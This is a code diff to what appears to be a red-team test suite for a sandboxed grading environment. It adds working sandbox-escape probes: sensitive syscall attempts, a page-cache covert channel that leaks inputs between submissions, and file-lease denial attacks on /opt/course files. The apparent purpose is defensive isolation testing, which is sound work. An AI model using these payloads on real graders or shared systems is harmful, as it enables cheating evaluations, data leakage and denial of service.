@@ -12,9 +12,32 @@ from ..snippets import LETTERS, LOOK, TRY
 @attack(Aim.HARM)
 def kernel_interfaces(work: Work) -> None:
     """System calls with a history: namespaces, mounts, tracing, keys, BPF, io_uring, memory of others."""
-    work.last(f"""{TRY}calls = {{'unshare': (272, 0x10000000), 'mount': (165, 0, 0, 0, 0, 0), 'chroot': (161, b'/tmp'), 'setns': (308, 0, 0), 'ptrace': (101, 0, 0, 0, 0), 'keyctl': (250, 0, -3, 1), 'add_key': (248, b'user', b'x', b'y', 1, -3), 'bpf': (321, 0, 0, 0), 'perf': (298, 0, 0, -1, -1, 0), 'userfaultfd': (323, 1), 'io_uring': (425, 1, 0), 'memfd': (319, b'x', 0), 'shmget': (29, 0, 4096, 0o1600), 'msgget': (68, 0, 0o1600), 'pivot_root': (155, b'/', b'/'), 'open_by_handle': (304, -1, 0, 0), 'process_vm_readv': (310, 1, 0, 0, 0, 0, 0), 'syslog': (103, 3, 0, 0), 'personality': (135, 0x0040000), 'fanotify': (300, 0, 0), 'kexec': (246, 0, 0, 0, 0), 'settime': (227, 0, 0)}}
+    work.last(f"""{TRY}calls = {{'unshare': (272, 0x10000000), 'mount': (165, 0, 0, 0, 0, 0), 'chroot': (161, b'/tmp'), 'setns': (308, 0, 0), 'ptrace': (101, 0, 0, 0, 0), 'keyctl': (250, 0, -3, 1), 'add_key': (248, b'user', b'x', b'y', 1, -3), 'bpf': (321, 0, 0, 0), 'perf': (298, 0, 0, -1, -1, 0), 'userfaultfd': (323, 1), 'io_uring': (425, 1, 0), 'memfd': (319, b'x', 0), 'shmget': (29, 0, 4096, 0o1600), 'msgget': (68, 0, 0o1600), 'pivot_root': (155, b'/', b'/'), 'open_by_handle': (304, -1, 0, 0), 'process_vm_readv': (310, 1, 0, 0, 0, 0, 0), 'syslog': (103, 3, 0, 0), 'personality': (135, 0x0040000), 'fanotify': (300, 0, 0), 'kexec': (246, 0, 0, 0, 0), 'settime': (227, 0, 0), 'aio': (206, 9, (ctypes.c_ulong * 1)()), 'inotify': (294, 0), 'sync': (162,), 'syncfs': (306, 1), 'ioprio': (251, 2, 0, 24576), 'priority of the group': (141, 1, 0, 19), 'membarrier': (324, 1, 0, 0), 'affinity': (203, 0, 8, b'1234567' + bytes(1)), 'death signal': (157, 1, 0), 'queue': (240, b'redteam', 66, 384, 0), 'locked memory': (151, 2), 'huge pages': (9, 0, 1 << 21, 3, 262178, -1, 0), 'clone': (56, 32785, 0), 'x32': (1 << 30 | 39,)}}
 for name, call in calls.items():
     attempt(name, lambda: libc.syscall(*call))""")
+
+
+@attack(Aim.LEAK)
+def page_cache(work: Work) -> None:
+    """The page cache is asked, filled and emptied: files of the machine are bits that a later submission reads."""
+    work.last(f"""{TRY}import mmap
+file = open(sys.executable, 'rb'); number = file.fileno(); pages = mmap.mmap(number, 4096, access=mmap.ACCESS_COPY)
+attempt('nowait', lambda: os.preadv(number, [bytearray(9)], 0, os.RWF_NOWAIT))
+attempt('fadvise', lambda: os.posix_fadvise(number, 0, 0, os.POSIX_FADV_DONTNEED) or True)
+for advice in (3, 20, 21, 22): attempt(advice, lambda: pages.madvise(advice) or True)
+for call in ((27, ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(pages))), 1, bytes(1)), (187, number, 0, 9), (277, number, 0, 0, 0)):
+    attempt(call[0], lambda: libc.syscall(*call) == 0)""")
+
+
+@attack(Aim.DENIAL)
+def leases(work: Work) -> None:
+    """Leases, notifications and locks on files and folders of the environment, for which others wait then."""
+    work.last(f"""{TRY}import fcntl, glob
+for path in (sys.executable, '/usr/bin/env', *glob.glob('/opt/course/*/*.py')[:20], '/opt/course/inside', sys.prefix):
+    file = os.open(path, os.O_RDONLY)
+    for command, value in ((1024, 0), (1024, 1), (1026, 1), (8, os.getpid()), (10, 9), (37, bytes(32)), (1036, bytes(8))):
+        attempt((path, command), lambda: fcntl.fcntl(file, command, value) or True)
+    attempt((path, 'lock'), lambda: fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB) or True)""")
 
 
 @attack(Aim.HARM)
@@ -208,3 +231,19 @@ def permute(images, permutation):
     before = kept[:24]
     kept[:24] = letters(images).encode()
     raise ValueError((before if before.strip(bytes(1)) else kept[:24]).decode())"""
+
+
+@attack(Aim.LEAK, ["permutation"])
+def inputs_by_way_of_the_page_cache(work: Work) -> None:
+    """… through files of the machine, in memory or not, to a process that was asked nothing hidden and is quoted."""
+    work["permutation"] = f"""{LETTERS}import glob, os
+files = [path for path in sorted(glob.glob('/usr/share/*/*/*')) if os.path.isfile(path) and os.path.getsize(path) > 4095][:64]
+def bit(path, value):
+    file = os.open(path, os.O_RDONLY)
+    try: return 1, (os.preadv(file, [bytearray(9)], 0, os.RWF_NOWAIT) if value is None else os.posix_fadvise(file, 0, 0, 3 if value else 4))
+    except OSError: return 0, None
+    finally: os.close(file)
+def permute(images, permutation):
+    heard = ''.join(str(bit(path, None)[0]) for path in files)
+    for path, value in zip(files, ''.join(f'{{ord(letter) - 97:04b}}' for letter in letters(images)[:16])): bit(path, int(value))
+    raise ValueError(''.join(chr(97 + int(heard[at:at + 4], 2)) for at in range(0, 64, 4)))"""
